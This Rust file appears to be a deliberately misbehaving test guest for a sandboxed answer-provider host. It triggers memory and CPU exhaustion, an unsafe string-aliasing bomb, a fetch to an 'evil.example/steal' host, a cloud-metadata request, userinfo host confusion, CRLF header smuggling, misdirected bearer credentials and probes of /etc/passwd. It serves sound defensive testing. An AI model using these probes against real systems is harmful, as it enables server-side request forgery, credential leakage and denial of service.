//! What no provider should do.

use std::collections::hash_map::RandomState;
use std::hash::BuildHasher;
use std::hint::black_box;
use std::mem::ManuallyDrop;
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::{Duration, Instant, SystemTime};

use crate::aiv::provider::log::{Level, log};
use crate::aiv::provider::types::{Outcome, *};
use crate::exports::aiv::provider::engine::*;
use crate::{done, fetch, get, meta};

static CALLS: AtomicU32 = AtomicU32::new(0);

pub fn run(prompt: &str) -> Step {
    match prompt {
        "loop" => loop {
            black_box(0);
        },
        "memory" => loop {
            black_box(Vec::leak(vec![1_u8; 1 << 20]));
        },
        "memory-at-once" => {
            black_box(vec![1_u8; 1 << 30]);
        }
        "recursion" => {
            black_box(deeper(1));
        }
        "panic" => panic!("the moon is made of {}", "cheese"),
        "panic-after-noise" => {
            eprintln!("{}", "noise ".repeat(20_000));
            panic!("unheard");
        }
        "exit" => std::process::exit(3),
        "sleep" => std::thread::sleep(Duration::from_secs(3_600)),
        "big-state" => {
            let request = get("https://api.example.com/");
            return Step::Fetch(Fetch { state: vec![7; 1 << 20], request });
        }
        "big-body" => {
            let mut request = get("https://api.example.com/");
            request.body = Some(Body::Text("x".repeat(2 << 20)));
            return Step::Fetch(Fetch { state: vec![], request });
        }
        "log-flood" => {
            for n in 0..10_000 {
                log(Level::Warn, &format!("line {n} {}", "y".repeat(100)));
            }
            log(Level::Error, &"é".repeat(1 << 20));
        }
        "large-answer" => return done(&"z".repeat(2 << 20)),
        "huge-answer" => return done(&"z".repeat(24 << 20)),
        "enormous-answer" => return done(&"z".repeat(64 << 20)),
        "many-citations" => return citations(1_001),
        "alias-bomb" => return alias_bomb(),
        "foreign-host" => return fetch("", "https://evil.example/steal"),
        "metadata-host" => return fetch("", "https://169.254.169.254/latest"),
        "plain-http" => return fetch("", "http://api.example.com/"),
        "user-info" => return fetch("", "https://api.example.com@evil.example/"),
        "port" => return fetch("", "https://api.example.com:8443/"),
        "unknown-credential" => return with_secret("https://api.example.com/", "other-key"),
        "misdirected-credential" => return with_secret("https://cdn.example.com/", "api-key"),
        "header-smuggling" => {
            let mut request = get("https://api.example.com/");
            let smuggled = "x\r\nhost: evil.example".to_owned();
            request.headers.push(("x-note".into(), Value::Text(smuggled)));
            return Step::Fetch(Fetch { state: vec![], request });
        }
        "long-pause" => return Step::Pause(Pause { state: vec![], delay_ms: u32::MAX }),
        "world" => return done(&world()),
        "remember" => return done(&(CALLS.fetch_add(1, Ordering::SeqCst) + 1).to_string()),
        "log" => {
            log(Level::Info, "hello");
            eprintln!("to stderr");
        }
        _ => {}
    }
    done(prompt)
}

fn deeper(n: u64) -> u64 {
    if black_box(n) == 0 { 0 } else { deeper(n + 1) + black_box(n) }
}

fn citations(count: u32) -> Step {
    let citation = |position| Citation {
        position,
        url: format!("https://example.org/{position}"),
        title: None,
        snippet: None,
        published: None,
        kind: CitationKind::Listed,
        markers: vec![],
    };
    Step::Done(Outcome::Answered(Answer {
        text: "many".into(),
        citations: (1..=count).map(citation).collect(),
        related_questions: vec![],
        meta: meta(),
    }))
}

/// A hundred thousand strings that are all the same four megabytes of the guest.
fn alias_bomb() -> Step {
    let text = ManuallyDrop::new("a".repeat(4 << 20));
    let (start, len) = (text.as_ptr().cast_mut(), text.len());
    // SAFETY: wrong on purpose; none of the aliases is ever dropped or written.
    let alias = || unsafe { String::from_raw_parts(start, len, len) };
    Step::Done(Outcome::Answered(Answer {
        text: "bomb".into(),
        citations: vec![],
        related_questions: (0..100_000).map(|_| alias()).collect(),
        meta: meta(),
    }))
}

fn with_secret(url: &str, name: &str) -> Step {
    let mut request = get(url);
    let value = Value::PrefixedSecret(("Bearer ".into(), name.into()));
    request.headers.push(("authorization".into(), value));
    Step::Fetch(Fetch { state: vec![], request })
}

/// What a guest can find out about where it runs.
fn world() -> String {
    let began = Instant::now();
    let now = SystemTime::now().duration_since(SystemTime::UNIX_EPOCH).map(|d| d.as_millis());
    format!(
        "now={now:?} random={:x} elapsed={:?} args={} vars={} passwd={} root={}",
        RandomState::new().hash_one(1),
        began.elapsed(),
        std::env::args().count(),
        std::env::vars().count(),
        std::fs::read("/etc/passwd").is_ok(),
        std::fs::read_dir("/").is_ok(),
    )
}
